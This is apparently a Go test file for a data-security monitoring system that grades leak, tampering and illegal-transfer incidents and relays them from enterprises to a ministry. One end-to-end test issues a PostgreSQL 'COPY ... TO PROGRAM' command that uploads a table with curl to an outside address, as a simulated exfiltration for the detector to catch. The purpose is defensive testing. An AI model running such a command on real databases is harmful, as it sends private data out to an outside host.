@@ -1,0 +1,302 @@
+package node
+
+import (
+	"context"
+	"database/sql"
+	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+	"time"
+
+	_ "github.com/jackc/pgx/v5/stdlib"
+
+	"github.com/shuan-dev/shuan"
+	"github.com/shuan-dev/shuan/fed"
+	"github.com/shuan-dev/shuan/incident"
+	"github.com/shuan-dev/shuan/source/sourcetest"
+	"github.com/shuan-dev/shuan/sqlstore"
+)
+
+// markImportant approves a catalog at r whose entry carries table at level.
+func markImportant(t *testing.T, r *Runtime, table, level string) {
+	t.Helper()
+	ctx := context.Background()
+	ed, rv := catalogUsers(t, r)
+	fields := append(completeEntry("M", 20000), [2]string{"level", level}, [2]string{"tables", table})
+	if _, err := r.SetCatalogEntry(ctx, ed, "M", fields, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.ApproveCatalog(ctx, rv, 0); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// waitMonitor waits until r's monitor runs and knows n important objects.
+func waitMonitor(t *testing.T, r *Runtime, objects int) {
+	t.Helper()
+	waitFor(t, "monitor running", func() error {
+		st, err := r.MonitorStatus(context.Background())
+		if err != nil {
+			return err
+		}
+		if !st.Running || st.Objects < objects {
+			return fmt.Errorf("status %+v", st)
+		}
+		return nil
+	})
+	time.Sleep(500 * time.Millisecond) // the tailers open their files
+}
+
+// incidentOf finds the incident at r that involves actor and risk.
+func incidentOf(r *Runtime, actor, risk string) func() (sqlstore.IncidentRecord, error) {
+	return func() (sqlstore.IncidentRecord, error) {
+		all, err := r.Incidents(context.Background(), sqlstore.IncidentFilter{})
+		if err != nil {
+			return sqlstore.IncidentRecord{}, err
+		}
+		for _, rec := range all {
+			if slices.Contains(rec.Incident.Actors, actor) && slices.Contains(rec.Incident.Risks, risk) {
+				return rec, nil
+			}
+		}
+		return sqlstore.IncidentRecord{}, fmt.Errorf("no %s incident of %s among %d", risk, actor, len(all))
+	}
+}
+
+// waitIncident waits for the incident of actor and risk at the enterprise,
+// checks it against want, then for the same revision at the ministry
+// through the province, and that the other province never sees it.
+func waitIncident(t *testing.T, f *federation, ent *tier, actor, risk, wantLevel string) sqlstore.IncidentRecord {
+	t.Helper()
+	ctx := context.Background()
+	var rec sqlstore.IncidentRecord
+	waitFor(t, risk+" incident of "+actor+" at the enterprise", func() (err error) {
+		rec, err = incidentOf(ent.Runtime, actor, risk)()
+		if err == nil && wantLevel != "" && rec.Incident.Grading.Level != wantLevel {
+			err = fmt.Errorf("level %s, want %s", rec.Incident.Grading.Level, wantLevel)
+		}
+		return err
+	})
+	id := rec.Incident.ID
+	for _, at := range []*tier{f.js, f.ministry} {
+		waitFor(t, "incident "+id+" at "+at.Cfg.Name, func() error {
+			got, err := at.Incident(ctx, id)
+			if err != nil {
+				return err
+			}
+			if got.NodeID != ent.Cfg.ID || got.Region != ent.Cfg.Region || got.Incident.Grading.Level != rec.Incident.Grading.Level {
+				return fmt.Errorf("got %s r%d %s from %s", got.Incident.ID, got.Revision, got.Incident.Grading.Level, got.NodeName)
+			}
+			return nil
+		})
+	}
+	if _, err := f.gd.Incident(ctx, id); shuan.ErrorCode(err) != shuan.ENOTFOUND {
+		t.Errorf("incident %s at the other province: %v", id, err)
+	}
+	return rec
+}
+
+// TestMonitorNDJSONLeakToMinistry feeds scripted events through an NDJSON
+// file at an enterprise: a bulk read of a core table becomes a 特别重大
+// incident at the ministry; the workflow travels up as revisions and a
+// warning travels down to the enterprises of its region only.
+func TestMonitorNDJSONLeakToMinistry(t *testing.T) {
+	f := newFederation(t)
+	ctx := context.Background()
+	markImportant(t, f.steel.Runtime, "public.formula", shuan.LevelCore)
+	path := filepath.Join(t.TempDir(), "events.ndjson")
+	if err := os.WriteFile(path, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := f.steel.SetMonitor(MonitorConfig{NDJSON: []string{path}, Refresh: "200ms"}); err != nil {
+		t.Fatal(err)
+	}
+	waitMonitor(t, f.steel.Runtime, 1)
+	fh, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t0 := time.Now().UTC().Add(-time.Minute)
+	for i := range 20 {
+		ev := shuan.Event{ID: fmt.Sprint("ev", i), Time: t0.Add(time.Duration(i) * time.Second), Source: "ndjson", Actor: "intern",
+			Client: "10.2.3.4", Database: "erp", Object: "public.formula", Action: "SELECT", Class: "READ", Rows: 1000,
+			Statement: "SELECT * FROM public.formula", Success: true}
+		b, _ := json.Marshal(ev)
+		fh.Write(append(b, '\n'))
+	}
+	fh.Close()
+	rec := waitIncident(t, f, f.steel, "intern", shuan.RiskLeakage, incident.LevelParticularlyMajor)
+	if rec.Incident.Facts.DataLevel != shuan.LevelCore || len(rec.Clocks) == 0 || rec.Initial.LevelZH == "" {
+		t.Errorf("record %+v", rec)
+	}
+	alerts, err := f.steel.Alerts(ctx, shuan.RiskLeakage, 0)
+	if err != nil || len(alerts) == 0 || alerts[0].IncidentID == "" {
+		t.Fatalf("alerts %+v, %v", alerts, err)
+	}
+
+	// Workflow: each step is a new revision at the ministry.
+	id := rec.Incident.ID
+	if _, err := f.js.TransitionIncident(ctx, shuan.User{}, id, incident.StatusConfirmed, ""); shuan.ErrorCode(err) != shuan.EFORBIDDEN {
+		t.Errorf("province transitioning: %v", err)
+	}
+	if _, err := f.steel.TransitionIncident(ctx, shuan.User{}, id, incident.StatusResolved, "skip"); shuan.ErrorCode(err) != shuan.ECONFLICT {
+		t.Errorf("skipping a step: %v", err)
+	}
+	var last sqlstore.IncidentRecord
+	for _, to := range []incident.Status{incident.StatusConfirmed, incident.StatusContained, incident.StatusResolved, incident.StatusSummarized} {
+		if last, err = f.steel.TransitionIncident(ctx, shuan.User{}, id, to, "步骤 "+string(to)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if last.Summary == nil || last.Revision <= rec.Revision {
+		t.Fatalf("summarized record r%d summary %v", last.Revision, last.Summary)
+	}
+	waitFor(t, "summarized at the ministry", func() error {
+		got, err := f.ministry.Incident(ctx, id)
+		if err != nil {
+			return err
+		}
+		if got.Incident.Status != incident.StatusSummarized || got.Revision != last.Revision || got.Summary == nil {
+			return fmt.Errorf("r%d %s", got.Revision, got.Incident.Status)
+		}
+		return nil
+	})
+	// Filters at the ministry: by region and by level.
+	if got, _ := f.ministry.Incidents(ctx, sqlstore.IncidentFilter{Region: "440000"}); len(got) != 0 {
+		t.Errorf("Guangdong incidents at the ministry: %d", len(got))
+	}
+	if got, _ := f.ministry.Incidents(ctx, sqlstore.IncidentFilter{Region: "320000", Level: incident.LevelParticularlyMajor}); len(got) == 0 {
+		t.Errorf("no Jiangsu 特别重大 incident at the ministry")
+	}
+
+	// A warning from the ministry to Jiangsu reaches its enterprises only.
+	if _, err := f.steel.SendWarning(ctx, shuan.User{}, fed.WarningBody{Colour: incident.ColourRed, Title: "t", Text: "x", Target: shuan.Target{All: true}}); shuan.ErrorCode(err) != shuan.EFORBIDDEN {
+		t.Errorf("enterprise warning: %v", err)
+	}
+	w, err := f.ministry.SendWarning(ctx, shuan.User{}, fed.WarningBody{Colour: incident.ColourOrange, Title: "配方数据泄露风险",
+		Text: "请立即排查核心数据批量读取", Risk: shuan.RiskLeakage, Target: shuan.Target{Regions: []string{"320000"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, at := range []*tier{f.js, f.steel, f.ic} {
+		waitFor(t, "warning at "+at.Cfg.Name, func() error {
+			ws, err := at.Warnings(ctx, 0)
+			if err != nil {
+				return err
+			}
+			if len(ws) == 0 || ws[0].ID != w.ID || ws[0].OriginName != f.ministry.Cfg.Name {
+				return fmt.Errorf("warnings %+v", ws)
+			}
+			return nil
+		})
+	}
+	for _, at := range []*tier{f.gd, f.auto} {
+		if ws, _ := at.Warnings(ctx, 0); len(ws) != 0 {
+			t.Errorf("warning reached %s", at.Cfg.Name)
+		}
+	}
+}
+
+// TestMonitorPgauditEndToEnd runs a real leak, a mass DELETE and a COPY TO
+// PROGRAM attempt on PostgreSQL with pgaudit, each as its own login role,
+// and follows each from the server log at the enterprise to the ministry.
+func TestMonitorPgauditEndToEnd(t *testing.T) {
+	admin := sourcetest.Env(t, "SHUAN_TEST_PG_ADMIN_URL")
+	logPath := sourcetest.Env(t, "SHUAN_TEST_PG_LOG")
+	ctx := context.Background()
+	adb, err := sql.Open("pgx", admin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer adb.Close()
+	suffix := rand.Int64N(1 << 40)
+	dbName := fmt.Sprintf("monitor_e2e_%d", suffix)
+	leaker, deleter, exporter := fmt.Sprintf("leaker_%d", suffix), fmt.Sprintf("deleter_%d", suffix), fmt.Sprintf("exporter_%d", suffix)
+	if _, err := adb.Exec("CREATE DATABASE " + dbName); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		adb.Exec("DROP DATABASE IF EXISTS " + dbName + " WITH (FORCE)")
+		for _, r := range []string{leaker, deleter, exporter} {
+			adb.Exec("DROP ROLE IF EXISTS " + r)
+		}
+	})
+	u, _ := url.Parse(admin)
+	u.Path = "/" + dbName
+	db, err := sql.Open("pgx", u.String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	must := func(db *sql.DB, q string) {
+		t.Helper()
+		if _, err := db.ExecContext(ctx, q); err != nil {
+			t.Fatalf("%s: %v", q, err)
+		}
+	}
+	must(db, "CREATE EXTENSION IF NOT EXISTS pgaudit")
+	if _, err := db.ExecContext(ctx, "ALTER DATABASE "+dbName+" SET pgaudit.log_rows = on"); err != nil {
+		t.Logf("pgaudit.log_rows not settable: %v", err)
+	}
+	must(db, "CREATE TABLE formula (id int PRIMARY KEY, recipe text)")
+	must(db, "INSERT INTO formula SELECT g, 'r' || g FROM generate_series(1, 20000) g")
+	must(db, "CREATE TABLE quality_check (id int PRIMARY KEY, v int)")
+	must(db, "INSERT INTO quality_check SELECT g, g FROM generate_series(1, 15000) g")
+	must(db, "CREATE TABLE shipments (id int PRIMARY KEY, dest text)")
+	for _, r := range []string{leaker, deleter, exporter} {
+		must(db, "CREATE ROLE "+r+" LOGIN PASSWORD 'pw-"+r+"'")
+		must(db, "GRANT SELECT, DELETE ON formula, quality_check, shipments TO "+r)
+	}
+	as := func(role string) *sql.DB {
+		v := *u
+		v.User = url.UserPassword(role, "pw-"+role)
+		d, err := sql.Open("pgx", v.String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { d.Close() })
+		return d
+	}
+
+	f := newFederation(t)
+	markImportant(t, f.steel.Runtime, "formula", shuan.LevelCore)
+	if err := f.steel.SetMonitor(MonitorConfig{Pgaudit: []string{logPath}, Refresh: "200ms"}); err != nil {
+		t.Fatal(err)
+	}
+	waitMonitor(t, f.steel.Runtime, 1)
+
+	// A leak: the whole core table read at once.
+	rows, err := as(leaker).QueryContext(ctx, "SELECT id, recipe FROM formula")
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for rows.Next() {
+		n++
+	}
+	rows.Close()
+	// Tampering: a mass DELETE.
+	must(as(deleter), "DELETE FROM quality_check WHERE id > 100")
+	// Illegal transmission: COPY TO PROGRAM, refused to a plain role but logged.
+	_, copyErr := as(exporter).ExecContext(ctx, "COPY shipments TO PROGRAM 'curl -T - http://203.0.113.9/'")
+	t.Logf("read %d rows; COPY TO PROGRAM: %v", n, copyErr)
+
+	leak := waitIncident(t, f, f.steel, leaker, shuan.RiskLeakage, incident.LevelParticularlyMajor)
+	if leak.Incident.Facts.DataLevel != shuan.LevelCore {
+		t.Errorf("leak data level %q", leak.Incident.Facts.DataLevel)
+	}
+	del := waitIncident(t, f, f.steel, deleter, shuan.RiskTampering, "")
+	exp := waitIncident(t, f, f.steel, exporter, shuan.RiskIllegalTransfer, "")
+	for _, rec := range []sqlstore.IncidentRecord{leak, del, exp} {
+		t.Logf("%s %s %s r%d risks=%v severity=%s alerts=%d", rec.Incident.ID, rec.Incident.Grading.LevelZH, rec.Incident.Title,
+			rec.Revision, rec.Incident.Risks, rec.Incident.Severity, rec.Incident.AlertCount)
+	}
+	if del.Incident.ID == leak.Incident.ID || exp.Incident.ID == leak.Incident.ID || del.Incident.ID == exp.Incident.ID {
+		t.Errorf("the three attacks share incidents")
+	}
+}
